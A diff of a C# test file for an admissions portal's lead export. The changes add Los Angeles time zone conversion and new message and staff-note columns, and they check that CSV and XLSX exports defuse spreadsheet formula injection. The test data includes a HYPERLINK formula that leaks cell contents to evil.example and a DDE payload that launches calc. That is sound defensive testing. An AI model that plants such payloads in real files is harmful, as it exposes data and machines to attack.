@@ -11,8 +11,13 @@ public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
     private static readonly string[] Headings =
     [
         "Lead ID", "First name", "Last name", "Email", "Phone", "Country", "Track", "Start term", "Years of experience",
-        "Status", "Source (UTM)", "Came in (UTC)", "Latest inquiry (UTC)", "Unsubscribed (UTC)", "Consent version",
+        "Status", "First came from", "Came in (America/Los_Angeles)", "Latest inquiry (America/Los_Angeles)",
+        "Unsubscribed (America/Los_Angeles)", "Consent version", "Latest message", "Staff notes",
     ];
+
+    // The portal's default zone, computed here independently of the app.
+    private static DateTime InLosAngeles(DateTimeOffset time) =>
+        TimeZoneInfo.ConvertTime(time, TimeZoneInfo.FindSystemTimeZoneById("America/Los_Angeles")).DateTime;
 
     [Fact]
     public async Task The_download_links_on_a_filtered_list_give_exactly_its_leads_in_both_formats()
@@ -47,19 +52,19 @@ public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
         var jose = await db.Leads.SingleAsync(l => l.LastName == "Ñúñez");
         var csvJose = csv[2];
         Assert.Equal([jose.Id.ToString(), "José", "Ñúñez", "josé.ñúñez@example.com", "", "Mexico", "Information Systems (IS)",
-            "Fall 2027", "5", "Contacted", "spring-fair", jose.CreatedAt.UtcDateTime.ToString("yyyy-MM-dd HH:mm"),
-            jose.LastInquiryAt.UtcDateTime.ToString("yyyy-MM-dd HH:mm"), "", ConsentStatement.Version], csvJose);
+            "Fall 2027", "5", "Contacted", "spring-fair", InLosAngeles(jose.CreatedAt).ToString("yyyy-MM-dd HH:mm"),
+            InLosAngeles(jose.LastInquiryAt).ToString("yyyy-MM-dd HH:mm"), "", ConsentStatement.Version, "", "0"], csvJose);
 
         // The spreadsheet keeps numbers as numbers and times as real dates, and the text exactly.
         var xlsxJose = xlsx[2];
         Assert.Equal(jose.Id.ToString(), xlsxJose[0]);
         Assert.Equal(csvJose[1..8], xlsxJose[1..8]);
         Assert.Equal("5", xlsxJose[8]);
-        Assert.Equal(jose.CreatedAt.UtcDateTime, ExportFiles.FromExcelDate(xlsxJose[11]), TimeSpan.FromMilliseconds(1));
+        Assert.Equal(InLosAngeles(jose.CreatedAt), ExportFiles.FromExcelDate(xlsxJose[11]), TimeSpan.FromMilliseconds(1));
     }
 
     [Fact]
-    public async Task Values_that_a_spreadsheet_would_run_as_formulas_come_out_as_text_in_both_formats()
+    public async Task Values_that_a_spreadsheet_would_run_as_formulas_come_out_as_text_quoted_in_csv_and_as_typed_in_xlsx()
     {
         string[] hostile = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1",
             "\tTabbed", "\rReturned"];
@@ -72,18 +77,61 @@ public class LeadExportTests(LeadApp app) : IClassFixture<LeadApp>
         var xlsx = ExportFiles.ReadXlsx(await admissions.DownloadAsync("/admin/leads/export/xlsx?country=NZ&sort=Name",
             LeadExporter.ContentType(ExportFormat.Xlsx)));
 
-        foreach (var (rows, format) in new[] { (csv, "csv"), (xlsx, "xlsx") })
+        // A CSV cell has no type, so the quote in front keeps a spreadsheet from evaluating it.
+        var csvData = csv.Skip(1).ToList();
+        Assert.Equal(hostile.Select(v => "'" + v), csvData.Select(r => r[1]));
+        Assert.Equal(hostile.Select(v => "'" + v), csvData.Select(r => r[10]));
+        Assert.All(csvData, r => Assert.Equal("'+64 555 0100", r[4]));
+
+        // An XLSX string cell is text whatever it starts with (ReadXlsx fails on any formula), so the
+        // values, and an international phone number, read exactly as typed. XML turns a carriage
+        // return in cell text into a line feed, as Excel reads it.
+        var xlsxData = xlsx.Skip(1).ToList();
+        Assert.Equal(hostile.Select(v => v.Replace('\r', '\n')), xlsxData.Select(r => r[1]));
+        Assert.Equal(hostile.Select(v => v.Replace('\r', '\n')), xlsxData.Select(r => r[10]));
+        Assert.All(xlsxData, r => Assert.Equal("+64 555 0100", r[4]));
+        Assert.All(csvData.Concat(xlsxData), r => Assert.StartsWith("Hostile", r[2]));
+    }
+
+    [Fact]
+    public async Task An_export_carries_each_persons_latest_message_and_how_many_notes_staff_wrote()
+    {
+        async Task SubmitAsync(string email, string lastName, string message)
         {
-            // XML turns a carriage return in cell text into a line feed (Excel reads it the same way);
-            // what matters is the quote in front.
-            var expected = hostile.Select(v => "'" + (format == "xlsx" ? v.Replace('\r', '\n') : v)).ToList();
-            var data = rows.Skip(1).ToList();
-            Assert.Equal(expected, data.Select(r => r[1]));
-            Assert.Equal(expected, data.Select(r => r[10]));
-            // An international phone number starts with "+" too: it is kept as text rather than summed.
-            Assert.All(data, r => Assert.Equal("'+64 555 0100", r[4]));
-            Assert.All(data, r => Assert.StartsWith("Hostile", r[2]));
+            var form = app.ValidForm(email);
+            form["Input.LastName"] = lastName;
+            form["Input.Message"] = message;
+            using (await app.SubmitLeadAsync(form, formPath: "/request-info?utm_source=message-export")) { }
         }
+
+        const string latest = "- Is the GRE required?\n- Can I start in spring?";
+        await SubmitAsync("asker@example.com", "Asker", "First question: is it online?");
+        app.Clock.Advance(TimeSpan.FromDays(1));
+        await SubmitAsync("asker@example.com", "Asker", latest);
+        await SubmitAsync("silent@example.com", "Silent", "");
+        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
+        var lead = await admissions.GetAsync($"/admin/leads/{await app.LeadIdAsync("asker@example.com")}");
+        lead = await admissions.SubmitAsync(lead, "form[action*='handler=Note']", ("Note.Text", "Called her back."));
+        await admissions.SubmitAsync(lead, "form[action*='handler=Note']", ("Note.Text", "Sent the GRE waiver form."));
+
+        const string filter = "?source=message-export&sort=Name";
+        var csv = ExportFiles.ReadCsv(await admissions.DownloadAsync("/admin/leads/export/csv" + filter, "text/csv"));
+        var xlsx = ExportFiles.ReadXlsx(await admissions.DownloadAsync("/admin/leads/export/xlsx" + filter,
+            LeadExporter.ContentType(ExportFormat.Xlsx)));
+
+        var message = Array.IndexOf(Headings, "Latest message");
+        var notes = Array.IndexOf(Headings, "Staff notes");
+        foreach (var rows in new[] { csv, xlsx })
+        {
+            Assert.Equal(Headings, rows[0]);
+            Assert.Equal(["Asker", "Silent"], rows.Skip(1).Select(r => r[2]));
+            Assert.Equal(["2", "0"], rows.Skip(1).Select(r => r[notes]));
+            Assert.Equal("", rows[2][message]);
+        }
+
+        // The message starts with "-": quoted in the CSV only, and its line break kept in both.
+        Assert.Equal("'" + latest, csv[1][message]);
+        Assert.Equal(latest, xlsx[1][message]);
     }
 
     [Fact]
